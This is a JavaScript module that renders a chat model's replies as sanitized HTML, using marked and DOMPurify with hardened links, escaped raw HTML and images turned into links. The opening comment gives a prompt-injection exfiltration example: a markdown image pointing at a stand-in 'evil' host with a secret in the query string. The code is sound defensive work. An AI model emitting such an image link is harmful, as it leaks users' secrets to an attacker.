// Model output → Markdown → HTML → DOMPurify → the DOM. Nothing a model writes reaches the
// page any other way: no <script>, no on* handler, no javascript: or data: link, no inline
// style survives, and the page's CSP would block them anyway. Images become links: a reply
// must not make the browser fetch anything by itself (a tracking pixel, a prompt-injected
// "![](https://evil/?q=secret)").
//
// HTML the model writes itself is shown as text, as chat pages do, never parsed: Chromium
// gives every document this page makes (DOMParser's, createHTMLDocument's, a <template>'s)
// the page's CSP, and reports an on* or style attribute the moment any of them parses one,
// before DOMPurify could remove it. So only marked's own markup (tags it writes, with href,
// src, alt, title and language-… classes) is ever parsed, in DOMPurify's inert document.
//
// marked and DOMPurify are loaded by index.html; highlight.js only when a code block first
// appears.

import { h } from "./dom.js";
import { loadScript } from "./load.js";

const HIGHLIGHT = "ui/static/vendor/highlightjs-11.12.0/highlight.min.js";

const PURIFY = {
  USE_PROFILES: { html: true }, // no SVG or MathML
  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe"],
  FORBID_ATTR: ["style", "id", "srcset"],
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#)/i,
  RETURN_DOM_FRAGMENT: true, // no second parse of the cleaned HTML (mutation XSS)
};

const ESCAPES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
const escapeHtml = (text) => text.replace(/[&<>"']/g, (c) => ESCAPES[c]);

let hooked = false;
let highlighter = null;
let instance = null;

function parser() {
  instance ||= new window.marked.Marked({
    gfm: true,
    breaks: false,
    async: false,
    // Raw HTML tokens (a block, or an inline tag) come back as the text the model wrote.
    renderer: { html: ({ text }) => escapeHtml(text) },
  });
  return instance;
}

function purifier() {
  const purify = window.DOMPurify;
  if (!hooked) {
    // Links open elsewhere and leak nothing; an image may only come from this origin (the
    // CSP says so too), so a reply cannot call home through an <img>.
    // Classes would let a reply dress up as the page's own notices; only marked's
    // language-… on code blocks is kept.
    purify.addHook("uponSanitizeAttribute", (node, data) => {
      if (data.attrName === "class" && !/^language-[\w+#.-]+$/.test(data.attrValue)) data.keepAttr = false;
    });
    purify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer nofollow");
      }
    });
    hooked = true;
  }
  return purify;
}

export function render(text) {
  const html = parser().parse(text);
  const fragment = purifier().sanitize(html, PURIFY);
  for (const img of fragment.querySelectorAll("img")) {
    const src = img.getAttribute("src") || "";
    const label = `image: ${img.getAttribute("alt") || src || "?"}`;
    const safe = /^https?:/i.test(src);
    img.replaceWith(safe ? h("a", { href: src, target: "_blank", rel: "noopener noreferrer nofollow" }, label) : label);
  }
  // A link the sanitizer took the address from (javascript:, data:) should not look like one.
  for (const link of fragment.querySelectorAll("a:not([href])")) link.replaceWith(...link.childNodes);
  return fragment;
}

// Fill `target` with the rendered reply: code blocks highlighted and given a copy button.
export function show(target, markdown) {
  target.replaceChildren(render(markdown));
  const blocks = [...target.querySelectorAll("pre > code")];
  for (const code of blocks) decorate(code);
  if (blocks.length) highlight(blocks);
}

function decorate(code) {
  const pre = code.parentElement;
  const language = [...code.classList].find((c) => c.startsWith("language-"))?.slice(9);
  const copy = h("button", { type: "button", class: "copy quiet", "aria-label": `Copy ${language || ""} code` }, "Copy");
  copy.addEventListener("click", () => copyText(code.textContent, copy));
  const head = h("div", { class: "code-head" }, h("span", { class: "lang" }, language || "code"), copy);
  const box = h("div", { class: "code" }, head);
  pre.replaceWith(box);
  box.append(pre);
}

function highlight(blocks) {
  highlighter ||= loadScript(HIGHLIGHT).then(() => {
    window.hljs.configure({ ignoreUnescapedHTML: true });
    return window.hljs;
  });
  highlighter.then((hljs) => {
    for (const code of blocks) {
      if (!code.isConnected || code.dataset.highlighted) continue;
      const language = [...code.classList].find((c) => c.startsWith("language-"))?.slice(9);
      if (language && !hljs.getLanguage(language)) code.classList.add("nohighlight");
      hljs.highlightElement(code); // escapes the text itself: it never reads HTML
    }
  });
}

export async function copyText(text, button) {
  const label = button.textContent;
  try {
    await navigator.clipboard.writeText(text);
    button.textContent = "Copied";
  } catch {
    button.textContent = "Copy failed: select the text";
  }
  setTimeout(() => {
    button.textContent = label;
  }, 1500);
}
